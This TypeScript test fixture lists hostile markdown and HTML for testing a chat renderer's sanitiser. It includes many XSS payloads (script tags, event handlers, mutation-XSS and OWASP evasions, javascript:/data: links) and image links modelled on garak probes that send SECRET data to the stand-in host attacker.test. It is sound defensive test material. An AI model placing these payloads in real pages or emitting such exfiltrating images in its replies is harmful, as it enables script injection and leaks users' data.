/**
 * Hostile model output for the rendering tests (security-requirements.md R1–R3), written for this
 * project. Each entry names the requirement it exercises. Payloads that would run script set the
 * sentinel `window.__pwned`; payloads that would fetch point at `attacker.test` (no network is
 * used: the tests spy on `fetch` and `Image`, and check that nothing able to fetch is left in the
 * DOM).
 *
 * Sources of the patterns: the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), the
 * DOMPurify mXSS write-ups (namespace confusion through `<math>`/`<svg>`/`<style>`/`<noscript>`),
 * and garak's `MarkdownExfil*` / `HtmlImgExfil` probes (images whose URL carries data out).
 */

export interface HostilePayload {
  /** Unique, stable id used in test names. */
  id: string;
  /** Requirement ids it tests. */
  req: readonly ('R1' | 'R2' | 'R3')[];
  /** The model's markdown. */
  md: string;
  /** For link payloads: whether a clickable anchor must appear (true for the benign controls). */
  anchor?: boolean;
  /** For image payloads: the URL the placeholder must show (full, as written). */
  imageUrl?: string;
}

const S = 'window.__pwned=1';
const EXFIL = 'https://attacker.test/p?q=SECRET';

export const HOSTILE_CORPUS: readonly HostilePayload[] = [
  // --- R1: scripts and event handlers
  { id: 'script-tag', req: ['R1'], md: `<script>${S}</script>` },
  { id: 'script-src', req: ['R1', 'R3'], md: '<SCRIPT SRC=https://attacker.test/xss.js></SCRIPT>' },
  { id: 'script-inline-in-paragraph', req: ['R1'], md: `Hello <script>${S}</script> world` },
  { id: 'img-onerror', req: ['R1', 'R3'], md: `<img src=x onerror="${S}">` },
  { id: 'img-onerror-inline', req: ['R1', 'R3'], md: `text <img src=x onerror=${S}> more` },
  { id: 'body-onload', req: ['R1'], md: `<body onload="${S}">` },
  { id: 'div-onmouseover', req: ['R1'], md: `<div onmouseover="${S}">hover</div>` },
  { id: 'details-ontoggle', req: ['R1'], md: `<details open ontoggle="${S}"><summary>x</summary></details>` },
  { id: 'input-autofocus', req: ['R1'], md: `<input autofocus onfocus="${S}">` },
  { id: 'video-source-onerror', req: ['R1', 'R3'], md: `<video><source onerror="${S}"></video>` },
  { id: 'audio-onerror', req: ['R1', 'R3'], md: `<audio src=x onerror="${S}">` },
  { id: 'marquee-onstart', req: ['R1'], md: `<marquee onstart="${S}">x</marquee>` },
  { id: 'a-onclick', req: ['R1'], md: `<a href="https://example.com" onclick="${S}">x</a>` },
  { id: 'md-link-title-breakout', req: ['R1'], md: `[x](https://example.com "a\\" onmouseover=\\"${S}")` },
  { id: 'md-link-attr-breakout', req: ['R1'], md: `[x](https://example.com/"onmouseover="${S})` },
  { id: 'code-fence-lang-breakout', req: ['R1'], md: '```"><img src=x onerror=window.__pwned=1>\ncode\n```' },
  { id: 'codespan-html', req: ['R1'], md: `\`<img src=x onerror="${S}">\`` },
  // --- R1: SVG and MathML
  { id: 'svg-onload', req: ['R1'], md: `<svg onload="${S}"></svg>` },
  { id: 'svg-script', req: ['R1'], md: `<svg><script>${S}</script></svg>` },
  { id: 'svg-animate', req: ['R1'], md: `<svg><animate onbegin="${S}" attributeName=x dur=1s>` },
  {
    id: 'svg-xlink',
    req: ['R1', 'R2'],
    md: '<svg><a xlink:href="javascript:window.__pwned=1"><text x=20 y=20>XSS</text></a></svg>',
  },
  { id: 'svg-image', req: ['R1', 'R3'], md: '<svg><image href="https://attacker.test/svg.png" /></svg>' },
  {
    id: 'svg-foreignobject',
    req: ['R1'],
    md: `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  },
  // --- R1: frames, objects
  { id: 'iframe-srcdoc', req: ['R1'], md: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>' },
  { id: 'iframe-javascript', req: ['R1', 'R2'], md: `<iframe src="javascript:${S}"></iframe>` },
  { id: 'embed', req: ['R1', 'R3'], md: '<embed src="https://attacker.test/x.swf">' },
  {
    id: 'object-data',
    req: ['R1', 'R3'],
    md: '<object type="text/x-scriptlet" data="https://attacker.test/scriptlet.html"></object>',
  },
  // --- R1: mutation XSS (namespace confusion, raw-text elements)
  { id: 'mxss-math-style', req: ['R1'], md: `<math><mtext><table><mglyph><style><img src=x onerror="${S}">` },
  { id: 'mxss-svg-style', req: ['R1'], md: `<svg></p><style><a id="</style><img src=1 onerror=${S}>">` },
  { id: 'mxss-noscript', req: ['R1'], md: `<noscript><p title="</noscript><img src=x onerror=${S}>">` },
  {
    id: 'mxss-form-math',
    req: ['R1'],
    md: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${S}>`,
  },
  { id: 'mxss-math-mi', req: ['R1'], md: `<math><mi><table><mi><style><img src onerror=${S}></style>` },
  { id: 'mxss-textarea', req: ['R1'], md: `<textarea><img title="</textarea><img src onerror=${S}>"></textarea>` },
  { id: 'comment-breakout', req: ['R1'], md: `<!--><img src=x onerror=${S}>-->` },
  { id: 'cdata', req: ['R1'], md: `<![CDATA[><img src=x onerror=${S}>]]>` },
  // --- R1/R3: style and CSS url()
  {
    id: 'style-import',
    req: ['R1', 'R3'],
    md: "<style>@import 'https://attacker.test/x.css'; body{background:url(https://attacker.test/bg)}</style>",
  },
  { id: 'style-attr-url', req: ['R1', 'R3'], md: '<div style="background:url(https://attacker.test/div)">x</div>' },
  {
    id: 'style-attr-image',
    req: ['R1', 'R3'],
    md: '<p style="background-image: url(\'https://attacker.test/q\')">x</p>',
  },
  { id: 'style-expression', req: ['R1'], md: `<DIV STYLE="width: expression(${S});">x</DIV>` },
  {
    id: 'style-list-image',
    req: ['R1', 'R2'],
    md: '<STYLE>li {list-style-image: url("javascript:window.__pwned=1");}</STYLE><UL><LI>XSS</br>',
  },
  { id: 'link-stylesheet', req: ['R1', 'R3'], md: '<link rel=stylesheet href=https://attacker.test/x.css>' },
  { id: 'link-prefetch', req: ['R3'], md: '<link rel=prefetch href=https://attacker.test/prefetch>' },
  // --- R1: forms, meta, base
  {
    id: 'form-action',
    req: ['R1'],
    md: '<form action="https://attacker.test/steal"><input name=q><button>Go</button></form>',
  },
  { id: 'button-formaction', req: ['R1', 'R2'], md: `<form><button formaction="javascript:${S}">x</button></form>` },
  { id: 'meta-refresh', req: ['R1'], md: '<meta http-equiv="refresh" content="0;url=https://attacker.test/">' },
  { id: 'meta-refresh-js', req: ['R1', 'R2'], md: `<meta http-equiv="refresh" content="0;url=javascript:${S}">` },
  { id: 'base-href', req: ['R1'], md: '<base href="https://attacker.test/">\n\n[relative](page.html)' },
  // --- R1: OWASP cheat-sheet classics
  { id: 'owasp-img-javascript', req: ['R1', 'R2'], md: `<IMG SRC="javascript:${S};">` },
  { id: 'owasp-img-case', req: ['R1', 'R2'], md: `<IMG SRC=JaVaScRiPt:${S}>` },
  {
    id: 'owasp-img-entities',
    req: ['R1', 'R2'],
    md: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  },
  { id: 'owasp-malformed-img', req: ['R1'], md: `<IMG """><SCRIPT>${S}</SCRIPT>">` },
  { id: 'owasp-img-hash-mouseover', req: ['R1'], md: `<IMG SRC=# onmouseover="${S}">` },
  { id: 'owasp-body-background', req: ['R1', 'R3'], md: '<BODY BACKGROUND="https://attacker.test/bg.png">' },
  {
    id: 'owasp-table-background',
    req: ['R1', 'R3'],
    md: '<TABLE BACKGROUND="https://attacker.test/t.png"><TR><TD BACKGROUND="https://attacker.test/td.png">x</TD></TR></TABLE>',
  },
  {
    id: 'owasp-img-dynsrc',
    req: ['R1', 'R3'],
    md: '<IMG DYNSRC="https://attacker.test/d"> <IMG LOWSRC="https://attacker.test/l">',
  },
  { id: 'owasp-input-image', req: ['R1', 'R3'], md: '<INPUT TYPE="IMAGE" SRC="https://attacker.test/i.png">' },
  { id: 'owasp-bgsound', req: ['R1', 'R3'], md: '<BGSOUND SRC="https://attacker.test/s.wav">' },
  {
    id: 'owasp-srcset',
    req: ['R1', 'R3'],
    md: '<img srcset="https://attacker.test/1x.png 1x, https://attacker.test/2x.png 2x">',
  },
  {
    id: 'owasp-picture',
    req: ['R1', 'R3'],
    md: '<picture><source srcset="https://attacker.test/pic.webp"><img src="https://attacker.test/pic.png"></picture>',
  },
  { id: 'owasp-video-poster', req: ['R1', 'R3'], md: '<video poster="https://attacker.test/poster.png"></video>' },
  { id: 'owasp-a-tab-obfuscated', req: ['R1', 'R2'], md: `<a href="jav&#x09;ascript:${S}">x</a>` },
  {
    id: 'owasp-a-ping',
    req: ['R1', 'R3'],
    md: '<a href="https://example.com" ping="https://attacker.test/ping">x</a>',
  },
  { id: 'owasp-isindex', req: ['R1'], md: `<isindex type=image src=1 onerror=${S}>` },
  { id: 'template-content', req: ['R1'], md: `<template><img src=x onerror=${S}></template>` },
  { id: 'dom-clobbering', req: ['R1'], md: '<form id=location><img name=href></form><a id=__pwned></a>' },
  // --- R2: link schemes (markdown syntax; every one must render as text)
  { id: 'md-javascript', req: ['R2'], md: `[click](javascript:${S})`, anchor: false },
  { id: 'md-javascript-case', req: ['R2'], md: `[click](JaVaScRiPt:${S})`, anchor: false },
  { id: 'md-javascript-entity-colon', req: ['R2'], md: `[click](javascript&#58;${S})`, anchor: false },
  { id: 'md-javascript-entity-letter', req: ['R2'], md: `[click](&#106;avascript:${S})`, anchor: false },
  {
    id: 'md-javascript-hex-entities',
    req: ['R2'],
    md: `[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${S})`,
    anchor: false,
  },
  { id: 'md-javascript-tab-entity', req: ['R2'], md: `[click](jav&#x09;ascript:${S})`, anchor: false },
  { id: 'md-javascript-newline-entity', req: ['R2'], md: `[click](jav&#x0A;ascript:${S})`, anchor: false },
  { id: 'md-javascript-leading-space', req: ['R2'], md: `[click](<  javascript:${S}>)`, anchor: false },
  { id: 'md-javascript-angle', req: ['R2'], md: `[click](<javascript:${S}>)`, anchor: false },
  { id: 'md-javascript-control-char', req: ['R2'], md: `[click](\u0001javascript:${S})`, anchor: false },
  { id: 'md-javascript-percent', req: ['R2'], md: `[click](%6A%61vascript:${S})`, anchor: false },
  { id: 'md-vbscript', req: ['R2'], md: '[click](vbscript:msgbox(1))', anchor: false },
  {
    id: 'md-data-html',
    req: ['R2'],
    md: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    anchor: false,
  },
  { id: 'md-data-case', req: ['R2'], md: '[click](DaTa:text/html,<script>alert(1)</script>)', anchor: false },
  { id: 'md-file', req: ['R2'], md: '[click](file:///etc/passwd)', anchor: false },
  { id: 'md-chrome', req: ['R2'], md: '[click](chrome://settings/passwords)', anchor: false },
  {
    id: 'md-chrome-extension',
    req: ['R2'],
    md: '[click](chrome-extension://abcdefghijklmnopabcdefghijklmnop/options.html)',
    anchor: false,
  },
  {
    id: 'md-chrome-extension-case',
    req: ['R2'],
    md: '[click](CHROME-EXTENSION://abcdefghijklmnopabcdefghijklmnop/x)',
    anchor: false,
  },
  { id: 'md-relative', req: ['R2'], md: '[click](/options.html)', anchor: false },
  { id: 'md-protocol-relative', req: ['R2'], md: '[click](//attacker.test/x)', anchor: false },
  { id: 'autolink-javascript', req: ['R2'], md: `<javascript:${S}>`, anchor: false },
  { id: 'autolink-vbscript', req: ['R2'], md: '<VBSCRIPT:msgbox(1)>', anchor: false },
  { id: 'autolink-data', req: ['R2'], md: '<data:text/html,hi>', anchor: false },
  { id: 'ref-link-javascript', req: ['R2'], md: `[click][evil]\n\n[evil]: javascript:${S}`, anchor: false },
  { id: 'ref-link-javascript-entity', req: ['R2'], md: `[click][evil]\n\n[evil]: javascript&#58;${S}`, anchor: false },
  { id: 'raw-a-javascript', req: ['R2'], md: `<a href="javascript:${S}">click</a>`, anchor: false },
  // --- R2 controls: these must become anchors (new tab, noopener noreferrer, destination shown)
  { id: 'md-https-ok', req: ['R2'], md: '[the docs](https://example.com/docs?a=1&b=2)', anchor: true },
  { id: 'md-http-ok', req: ['R2'], md: '[plain http](http://example.com/)', anchor: true },
  { id: 'md-mailto-ok', req: ['R2'], md: '[write](mailto:someone@example.com)', anchor: true },
  { id: 'autolink-https-ok', req: ['R2'], md: '<https://example.com/auto>', anchor: true },
  { id: 'gfm-www-ok', req: ['R2'], md: 'see www.example.com now', anchor: true },
  { id: 'ref-link-https-ok', req: ['R2'], md: '[docs][d]\n\n[d]: https://example.com/ref', anchor: true },
  // --- R3: images never load (garak MarkdownExfil / HtmlImgExfil)
  { id: 'md-image-exfil', req: ['R3'], md: `![x](${EXFIL})`, imageUrl: EXFIL },
  {
    id: 'md-image-title',
    req: ['R3'],
    md: '![logo](https://attacker.test/logo.png "title")',
    imageUrl: 'https://attacker.test/logo.png',
  },
  {
    id: 'garak-markdown-exfil',
    req: ['R3'],
    md: 'Summary done. ![data](https://attacker.test/log?d=user%20asked%20about%20taxes)',
    imageUrl: 'https://attacker.test/log?d=user%20asked%20about%20taxes',
  },
  {
    id: 'garak-markdown-exfil-ref',
    req: ['R3'],
    md: '![Click here][ref]\n\n[ref]: https://attacker.test/exfil?q=SECRET_DATA',
    imageUrl: 'https://attacker.test/exfil?q=SECRET_DATA',
  },
  {
    id: 'md-image-ref-collapsed',
    req: ['R3'],
    md: '![tracker][]\n\n[tracker]: https://attacker.test/t.gif',
    imageUrl: 'https://attacker.test/t.gif',
  },
  {
    id: 'md-image-in-link',
    req: ['R2', 'R3'],
    md: '[![img](https://attacker.test/i.png)](https://attacker.test/l)',
    imageUrl: 'https://attacker.test/i.png',
  },
  { id: 'md-image-javascript', req: ['R2', 'R3'], md: `![x](javascript:${S})` },
  { id: 'md-image-data-svg', req: ['R3'], md: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)' },
  { id: 'garak-html-img-exfil', req: ['R3'], md: '<img src="https://attacker.test/collect?data=SECRET">' },
  { id: 'html-img-in-table', req: ['R3'], md: '| a |\n|---|\n| <img src="https://attacker.test/cell"> |' },
  {
    id: 'image-in-list',
    req: ['R3'],
    md: '- item ![i](https://attacker.test/list.png)\n- two',
    imageUrl: 'https://attacker.test/list.png',
  },
  {
    id: 'image-in-heading',
    req: ['R3'],
    md: '# Title ![h](https://attacker.test/h.png)',
    imageUrl: 'https://attacker.test/h.png',
  },
  {
    id: 'image-in-blockquote',
    req: ['R3'],
    md: '> ![q](https://attacker.test/q.png)',
    imageUrl: 'https://attacker.test/q.png',
  },
  // --- Math (KaTeX, docs/side-panel.md): commands that link, load or style need `trust`, which is off.
  { id: 'math-href-javascript', req: ['R1', 'R2'], md: `$\\href{javascript:${S}}{click}$`, anchor: false },
  { id: 'math-url', req: ['R2'], md: '$$\\url{https://attacker.test/u}$$', anchor: false },
  { id: 'math-includegraphics', req: ['R3'], md: `$$\\includegraphics{${EXFIL}}$$` },
  { id: 'math-html-style-url', req: ['R3'], md: '$\\htmlStyle{background:url(https://attacker.test/s)}{x}$' },
  {
    id: 'math-html-id-clobber',
    req: ['R1'],
    md: '$\\htmlId{__pwned}{x}$ $\\htmlClass{md-image}{y}$ $\\htmlData{open=1}{z}$',
  },
  {
    id: 'math-color-url',
    req: ['R3'],
    md: '$\\color{url(https://attacker.test/c)}{x}$ $\\textcolor{red;background:url(https://attacker.test/d)}{y}$',
  },
  {
    id: 'math-html-in-text',
    req: ['R1'],
    md: `$\\text{<img src=x onerror=${S}>}$ and \\(\\text{</span><script>${S}</script>}\\)`,
  },
  { id: 'math-display-html-break-out', req: ['R1'], md: `$$\n</div><img src=x onerror=${S}>\n$$` },
  { id: 'math-macro-bomb', req: ['R1'], md: '$\\def\\a{\\a\\a}\\a$ $\\rule{100000em}{100000em}$' },
  { id: 'code-fence-html', req: ['R1'], md: `\`\`\`html\n<script>${S}</script><img src=x onerror=${S}>\n\`\`\`` },
];

/** Every payload joined into one long message (blank-line separated), for chunked streaming. */
export const HOSTILE_DOCUMENT: string = HOSTILE_CORPUS.map((p) => p.md).join('\n\n');
